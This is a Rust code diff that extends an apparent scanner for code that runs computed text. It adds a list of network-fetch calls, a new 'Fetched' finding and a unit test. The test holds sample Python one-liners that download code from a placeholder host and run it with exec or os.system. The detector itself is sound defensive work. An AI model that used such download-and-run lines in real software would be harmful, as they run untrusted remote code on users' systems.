@@ -126,12 +126,35 @@ const DECODERS: &[&str] = &[
     "hex2bin",
 ];
 
+/// Names of calls that fetch text over the network: text that went
+/// through one of them is a download.
+const FETCHERS: &[&str] = &[
+    "urlopen",
+    "urlretrieve",
+    "requests.get",
+    "httpx.get",
+    "http.get",
+    "https.get",
+    "fetch(",
+    "Net::HTTP",
+    "URI.open",
+    "open-uri",
+    "LWP::Simple",
+    "HTTP::Tiny",
+    "file_get_contents('http",
+    "file_get_contents(\"http",
+    "curl_exec",
+];
+
 /// A shell-running or code-running call whose argument is not written out.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(crate) enum Hidden {
     /// The program decodes text, and this call runs text it computed: the
     /// decoded text, as far as the line shows.
     Decoded(&'static str),
+    /// The program fetches text over the network, and this call runs text
+    /// it computed (`exec(urlopen(…).read())`).
+    Fetched(&'static str),
     /// This shell-running call runs text only known at run time.
     Unknown(&'static str),
 }
@@ -139,6 +162,7 @@ pub(crate) enum Hidden {
 /// The calls of `code` that run text it computes instead of a literal.
 pub(crate) fn hidden_code(code: &str) -> Vec<Hidden> {
     let decodes = DECODERS.iter().any(|d| code.contains(d));
+    let fetches = FETCHERS.iter().any(|f| code.contains(f));
     let mut found = Vec::new();
     for call in CALLS.iter().chain(EVALS) {
         let shell = CALLS.contains(call);
@@ -152,7 +176,9 @@ pub(crate) fn hidden_code(code: &str) -> Vec<Hidden> {
             if !called || inside.starts_with(')') || arguments(rest).is_some() {
                 continue;
             }
-            let hidden = if decodes {
+            let hidden = if fetches {
+                Hidden::Fetched(call)
+            } else if decodes {
                 Hidden::Decoded(call)
             } else if shell && !matches!(*call, "exec" | "spawn" | "execFile") {
                 Hidden::Unknown(call)
@@ -162,6 +188,7 @@ pub(crate) fn hidden_code(code: &str) -> Vec<Hidden> {
             // `os.system(x)` is also a site of `system`: one report.
             let same = |h: &Hidden| match (h, &hidden) {
                 (Hidden::Decoded(a), Hidden::Decoded(b))
+                | (Hidden::Fetched(a), Hidden::Fetched(b))
                 | (Hidden::Unknown(a), Hidden::Unknown(b)) => {
                     a == b || a.ends_with(&format!(".{b}"))
                 }
@@ -1261,6 +1288,30 @@ mod tests {
             hidden_code("import os,sys;os.system(sys.argv[1])"),
             [Hidden::Unknown("os.system")]
         );
+    }
+
+    /// Text fetched over the network and run is a download run; fetched
+    /// and only printed or parsed, it is data.
+    #[test]
+    fn finds_fetched_code() {
+        let fetched = |code: &str| {
+            hidden_code(code)
+                .iter()
+                .any(|h| matches!(h, Hidden::Fetched(_)))
+        };
+        for code in [
+            "import urllib.request as u; exec(u.urlopen('https://e.x/p').read())",
+            "import requests; exec(requests.get('https://e.x/p').text)",
+            "import os,urllib.request as u; os.system(u.urlopen('https://e.x/c').read())",
+        ] {
+            assert!(fetched(code), "{code}");
+        }
+        for code in [
+            "import urllib.request as u; print(u.urlopen('https://e.x/api').read())",
+            "import json,requests; print(requests.get('https://e.x/a').json()['v'])",
+        ] {
+            assert!(hidden_code(code).is_empty(), "{code}");
+        }
     }
 
     #[test]
